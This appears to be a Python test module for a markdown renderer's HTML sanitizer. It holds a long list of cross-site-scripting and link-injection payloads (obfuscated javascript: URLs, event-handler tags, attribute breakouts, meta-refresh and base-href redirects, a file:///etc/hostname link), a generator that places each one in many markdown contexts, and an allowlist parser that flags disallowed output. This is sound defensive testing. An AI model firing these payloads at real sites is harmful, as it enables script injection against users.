"""Payloads that would run or tell somebody who reads, and the places that a body has for them."""

from __future__ import annotations

import re
from collections.abc import Iterator
from html.parser import HTMLParser

ELSEWHERE = "https://elsewhere.invalid/x"
ADDRESSES = (
    "javascript:hit()",
    "JaVaScRiPt:hit()",
    "java&#9;script:hit()",
    "java&Tab;script:hit()",
    "java\tscript:hit()",
    "&#106;avascript:hit()",
    "javascript&colon;hit()",
    "\x01javascript:hit()",
    " javascript:hit()",
    "vbscript:hit()",
    "livescript:hit()",
    "data:text/html,<script>hit()</script>",
    "data:image/svg+xml,<svg/onload=hit()>",
    "//elsewhere.invalid/x",
    "\\\\elsewhere.invalid\\x",
    "/\\elsewhere.invalid/x",
    "file:///etc/hostname",
    "blob:hit",
    "ftp://elsewhere.invalid/x",
    "view-source:javascript:hit()",
    "https:javascript:hit()",
    "http://",
    "intent://hit",
    "ws://elsewhere.invalid/",
    ELSEWHERE,
    "script .md>hit()</script .md",
    "javascript:hit().md",
    'x.md" onfocus="hit()',
    "x.md' onfocus='hit()",
    "x.md onfocus=hit() autofocus tabindex=0",
    '#"onfocus=hit()',
    'mailto:a@b.c" onfocus="hit()',
    'tel:1"onfocus="hit()',
    "javascript&#x3A;hit()",
    "\u200bjavascript:hit()",
    "javascript\u2028:hit()",
    "//\t/elsewhere.invalid",
)
MARKUP = (
    "<script>hit()</script>",
    "<script src=https://elsewhere.invalid/x></script>",
    "<img src=x onerror=hit()>",
    "<svg onload=hit()>",
    "<svg/onload=hit()>",
    '<p/onmouseover="hit()"/a=@b>',
    "<xx:yy onfocus=hit() autofocus tabindex=0>",
    '<details/open/ontoggle="hit()"/a=@b>',
    "<**img src=x onerror=hit()**>",
    "<**meta http-equiv=refresh content=0;url=https://elsewhere.invalid**>",
    "<meta http-equiv=refresh content=0;url=https://elsewhere.invalid/>",
    "<base href=https://elsewhere.invalid/>",
    "<iframe src=javascript:hit()>",
    "<iframe srcdoc='<script>hit()</script>'>",
    "<object data=javascript:hit()>",
    "<embed src=javascript:hit()>",
    "<link rel=stylesheet href=https://elsewhere.invalid/x>",
    "<style>@import 'https://elsewhere.invalid/x'</style>",
    "<form action=javascript:hit()><button>x</button></form>",
    "<a href=javascript:hit()>x</a>",
    "<input autofocus onfocus=hit()>",
    "<video src=x onerror=hit()>",
    "<math href=javascript:hit()>x</math>",
    "<!--><script>hit()</script>-->",
    "<![CDATA[><script>hit()</script>]]>",
    "<?php hit() ?><script>hit()</script>",
    "</div><script>hit()</script>",
    "</title><script>hit()</script>",
    "</textarea><script>hit()</script>",
    "</script><script>hit()</script>",
    '"><script>hit()</script>',
    "'><script>hit()</script>",
    "&lt;script&gt;hit()&lt;/script&gt;",
    "&#60;script&#62;hit()&#60;/script&#62;",
    "\\<script>hit()\\</script>",
    "`<script>hit()</script>",
    "{{ 7*7 }}",
    "{% raw %}",
    "{: onclick=hit() }",
    "{onclick=hit()}",
    "[x]: javascript:hit()",
    "<x-y onfocus=hit() tabindex=0 autofocus>",
    "<marquee onstart=hit()>",
    "<body onload=hit()>",
    "<template><script>hit()</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=hit()>'>",
    "<svg><style><img src=x onerror=hit()></style>",
    "<svg><a xlink:href=javascript:hit()><text>x</text></a></svg>",
)
# {} stands for an address.
LINKS = (
    "[x]({})",
    "[x](<{}>)",
    "![x]({})",
    "![x](<{}>)",
    '[x]({} "t")',
    '[x]({}\n"t\nu")',
    "[x\ny]({})",
    "![x\ny]({})",
    "[a [b] c]({})",
    "[x][r]\n\n[r]: {}",
    "[x][r]\n\n[r]: <{}>",
    "![x][r]\n\n[r]: {}",
    "[r][]\n\n[r]: {}",
    "[r]\n\n[r]: {}",
    "[x]( {} )",
    "[x](\n{}\n)",
    "<{}>",
    "\\`[x]({})",
    "`` ` `` [x]({})",
    "~~~ a b c\n[x]({})\n~~~",
    "- [x]({})",
    "1. **[x]({})** y",
    "> [x]({})",
    "| a |\n|---|\n| [x]({}) |",
    "## [x]({})",
    "**[x]({})**",
    "_[x]({})_",
    "[![x]({})](a.md)",
    "[![x](a.png)]({})",
    "    [x]({})",
    "[x](a_(b_({})))",
    "[x]({}){{: target=x }}",
    "*[x]: {}",
    '[x](a.md "{}")',
    "[{}](a.md)",
    "![{}](a.png)",
)
# {} stands for markup.
TEXTS = (
    "{}",
    "a {} b",
    "**{}**",
    "*{}*",
    "_{}_",
    "- {}",
    "1. {}",
    "1. **{}** x",
    "1) {}",
    "> {}",
    "## {}",
    "### {}",
    "{}\n---",
    "{}\n===",
    "`{}`",
    "```\n{}\n```",
    "~~~ {}\nx\n~~~",
    "    {}",
    "| {} | b |\n|---|---|\n| c | d |",
    "| a | b |\n|---|---|\n| {} | d |",
    "[{}](a.md)",
    '[x](a.md "{}")',
    "![{}](a.png)",
    "[x][{}]",
    "[{}]: a.md",
    "[x]: a.md '{}'",
    "<div>\n{}\n</div>",
    "<{}>",
    "*[SSP]: {}\n\nSSP",
    "!!! note\n    {}",
    "[^1]\n\n[^1]: {}",
    "Term\n: {}",
    "- a\n\n  {}",
    "{}\n{}",
    "\\{}",
    "&{};",
    "==a {}==",
    "~~a {}~~",
    "<!-- {} -->",
    "a<br>{}",
    "[x](<{}>)",
    "![](<{}>)",
    "[x]({})",
    "**a {}",
    "`a {}",
    "http://a.b/{}",
    "www.a.b/{}",
    "{}@a.b",
    "\u202e{}",
)


def placements() -> Iterator[str]:
    """Yield every payload in every place, alone and after text that could open something."""
    for before in (
        "",
        "Text\n",
        "- item\n\n",
        "1. **Lead.** x\n   ",
        "> q\n",
        "```\n",
        "<p>\n",
        "[",
        "| a |\n|---|\n",
    ):
        for form in LINKS:
            yield from (before + form.replace("{}", address) for address in ADDRESSES)
        for form in TEXTS:
            yield from (before + form.replace("{}", markup) for markup in MARKUP)


# What a body may be made of.
ALLOWED = {
    "p": (),
    "h1": ("id",),
    "h2": ("id",),
    "h3": ("id",),
    "h4": ("id",),
    "h5": ("id",),
    "h6": ("id",),
    "ul": (),
    "ol": ("start",),
    "li": (),
    "blockquote": (),
    "table": (),
    "thead": (),
    "tbody": (),
    "tr": (),
    "th": (),
    "td": (),
    "strong": (),
    "em": (),
    "a": ("href",),
    "img": ("src", "alt", "loading", "width", "height", "srcset", "sizes"),
    "code": (),
    "pre": (),
    "br": (),
}
_ADDRESS = re.compile(r"(?:https?://[^/\\]|mailto:|tel:|[\w./%-]*#?[\w-]*$)")
_SOURCES = re.compile(r"[\w./%-]+ \d+w, [\w./%-]+ \d+w")


class Strict(HTMLParser):
    """Collects what no body may hold: other elements, attributes and addresses."""

    def __init__(self) -> None:
        super().__init__()
        self.faults: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        for name, value in attrs:
            if name not in ALLOWED.get(tag, ()):
                self.faults.append(f"<{tag} {name}>")
            elif name == "href" and not _ADDRESS.match(value or ""):
                self.faults.append(f"href={value!r}")
            elif name in ("width", "height") and not re.fullmatch(r"\d{1,4}", value or ""):
                self.faults.append(f"{name}={value!r}")
            elif name == "srcset" and not _SOURCES.fullmatch(value or ""):
                self.faults.append(f"srcset={value!r}")
            elif name == "src" and not re.fullmatch(r"[\w./%-]+", value or ""):
                self.faults.append(f"src={value!r}")
        if tag not in ALLOWED:
            self.faults.append(f"<{tag}>")

    def handle_data(self, data: str) -> None:
        self.text.append(data)

    def handle_comment(self, data: str) -> None:
        self.faults.append("a comment")

    def handle_decl(self, decl: str) -> None:
        self.faults.append("a declaration")

    def handle_pi(self, data: str) -> None:
        self.faults.append("an instruction")


def faults(html: str) -> list[str]:
    """Return what stands in a body and may not."""
    strict = Strict()
    strict.feed(html)
    strict.close()
    return strict.faults
